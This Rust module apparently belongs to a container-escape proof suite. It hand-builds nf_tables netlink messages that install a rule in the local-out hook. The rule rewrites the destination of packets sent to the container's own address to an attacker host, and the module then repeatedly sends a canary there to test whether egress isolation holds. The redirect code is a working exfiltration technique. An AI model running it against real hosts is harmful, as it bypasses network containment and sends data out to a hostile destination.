//! A table of somebody else's behind ours: a rule that turns a packet which was accepted for loopback towards the
//! attacker's host. It takes NET_ADMIN, which nobody in an agent's container has.

use std::net::{IpAddr, Ipv4Addr, UdpSocket};
use std::os::fd::AsRawFd;
use std::time::Duration;

use nix::sys::socket::{
    AddressFamily, MsgFlags, NetlinkAddr, SockFlag, SockProtocol, SockType, recv, sendto, setsockopt, socket,
    sockopt,
};
use nix::sys::time::TimeVal;

use super::{Failed, target};

const PORT: u16 = 9999;
/// How often the table is put there again, should somebody take it away.
const ROUNDS: usize = 15;
/// How many packets are sent each time.
const PACKETS: usize = 20;
const CHAIN: &str = "turn";

// linux/netfilter/nfnetlink.h, nf_tables.h and linux/netlink.h
const SUBSYSTEM: u16 = 10;
const BATCH_BEGIN: u16 = 0x10;
const BATCH_END: u16 = 0x11;
const NEWTABLE: u16 = SUBSYSTEM << 8;
const NEWCHAIN: u16 = SUBSYSTEM << 8 | 3;
const NEWRULE: u16 = SUBSYSTEM << 8 | 6;
const REQUEST: u16 = 1;
const ACK: u16 = 4;
const CREATE: u16 = 0x400;
const NFPROTO_IPV4: u8 = 2;
const NESTED: u16 = 0x8000;
const NF_INET_LOCAL_OUT: u32 = 3;
const NETWORK_HEADER: u32 = 1;
const DESTINATION: u32 = 16;
const HEADER_CHECKSUM: u32 = 10;

/// Puts the table there and sends, many times.
pub fn turn(priority: i32, canary: &str) -> Result<String, Failed> {
    let own = own()?;
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
    let mut said = String::new();
    for _ in 0..ROUNDS {
        said = install(priority, own)?;
        for _ in 0..PACKETS {
            let _ = socket.send_to(canary.as_bytes(), (own, PORT));
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    Ok(said)
}

/// The container's own address. What it sends there goes by loopback, and unlike what is sent to 127/8 it may leave by
/// another way once its destination is another.
fn own() -> Result<Ipv4Addr, Failed> {
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
    socket.connect((target::EVIL, PORT))?;
    match socket.local_addr()?.ip() {
        IpAddr::V4(address) => Ok(address),
        IpAddr::V6(_) => Err(Failed::Impossible("this container has no IPv4 address".to_owned())),
    }
}

/// The kernel's answer in words. A table that is there already gets the same rule once more.
fn install(priority: i32, own: Ipv4Addr) -> Result<String, Failed> {
    let fd = socket(
        AddressFamily::Netlink,
        SockType::Raw,
        SockFlag::SOCK_CLOEXEC,
        SockProtocol::NetlinkNetFilter,
    )?;
    setsockopt(&fd, sockopt::ReceiveTimeout, &TimeVal::new(1, 0))?;
    // Each attack has a table of its own: a chain's priority can't be changed.
    let table = format!("clawker-prove-{priority}");
    let parts = [
        message(BATCH_BEGIN, REQUEST, (0, SUBSYSTEM), &[]),
        message(NEWTABLE, REQUEST | CREATE, (NFPROTO_IPV4, 0), &text(1, &table)),
        message(NEWCHAIN, REQUEST | CREATE, (NFPROTO_IPV4, 0), &chain(&table, priority)),
        message(NEWRULE, REQUEST | CREATE | ACK, (NFPROTO_IPV4, 0), &rule(&table, own)),
        message(BATCH_END, REQUEST, (0, SUBSYSTEM), &[]),
    ];
    sendto(fd.as_raw_fd(), &parts.concat(), &NetlinkAddr::new(0, 0), MsgFlags::empty())?;
    let mut answer = [0; 512];
    recv(fd.as_raw_fd(), &mut answer, MsgFlags::empty())?;
    match i32::from_ne_bytes([answer[16], answer[17], answer[18], answer[19]]) {
        0 => Ok("the kernel took the table".to_owned()),
        code => Err(nix::Error::from_raw(-code).into()),
    }
}

fn chain(table: &str, priority: i32) -> Vec<u8> {
    let hook = [number(1, NF_INET_LOCAL_OUT), attribute(2, &priority.to_be_bytes())].concat();
    // The type `route` finds a new way for a packet whose destination a rule changes.
    [text(1, table), text(3, CHAIN), attribute(4 | NESTED, &hook), text(7, "route")].concat()
}

fn rule(table: &str, own: Ipv4Addr) -> Vec<u8> {
    let read = [number(1, 1), number(2, NETWORK_HEADER), number(3, DESTINATION), number(4, 4)].concat();
    let equal = [number(1, 1), number(2, 0), value(3, own)].concat();
    let other = [number(1, 1), value(2, target::EVIL)].concat();
    let write = [
        number(5, 1),
        number(2, NETWORK_HEADER),
        number(3, DESTINATION),
        number(4, 4),
        number(6, 1),
        number(7, HEADER_CHECKSUM),
        number(8, 1),
    ];
    let all = [
        expression("payload", &read),
        expression("cmp", &equal),
        expression("immediate", &other),
        expression("payload", &write.concat()),
    ];
    [text(1, table), text(2, CHAIN), attribute(4 | NESTED, &all.concat())].concat()
}

fn expression(name: &str, data: &[u8]) -> Vec<u8> {
    attribute(1 | NESTED, &[text(1, name), attribute(2 | NESTED, data)].concat())
}

fn value(kind: u16, address: Ipv4Addr) -> Vec<u8> {
    attribute(kind | NESTED, &attribute(1, &address.octets()))
}

fn number(kind: u16, number: u32) -> Vec<u8> {
    attribute(kind, &number.to_be_bytes())
}

fn text(kind: u16, text: &str) -> Vec<u8> {
    attribute(kind, &[text.as_bytes(), b"\0"].concat())
}

fn attribute(kind: u16, data: &[u8]) -> Vec<u8> {
    let mut bytes = u16::try_from(data.len() + 4).unwrap_or(u16::MAX).to_ne_bytes().to_vec();
    bytes.extend(kind.to_ne_bytes());
    bytes.extend(data);
    bytes.resize(bytes.len().next_multiple_of(4), 0);
    bytes
}

fn message(kind: u16, flags: u16, (family, resource): (u8, u16), attributes: &[u8]) -> Vec<u8> {
    let mut bytes = u32::try_from(20 + attributes.len()).unwrap_or(u32::MAX).to_ne_bytes().to_vec();
    bytes.extend(kind.to_ne_bytes());
    bytes.extend(flags.to_ne_bytes());
    bytes.extend([0; 8]);
    bytes.extend([family, 0]);
    bytes.extend(resource.to_be_bytes());
    bytes.extend(attributes);
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_attribute_ends_on_a_word_and_says_its_length() {
        let bytes = text(1, "ab");
        assert_eq!((bytes.len(), bytes[0]), (8, 7));
        let whole = message(NEWRULE, REQUEST, (NFPROTO_IPV4, 0), &rule("t", Ipv4Addr::LOCALHOST));
        assert_eq!(u32::from_ne_bytes([whole[0], whole[1], whole[2], whole[3]]) as usize, whole.len());
        assert_eq!(whole.len() % 4, 0);
    }
}
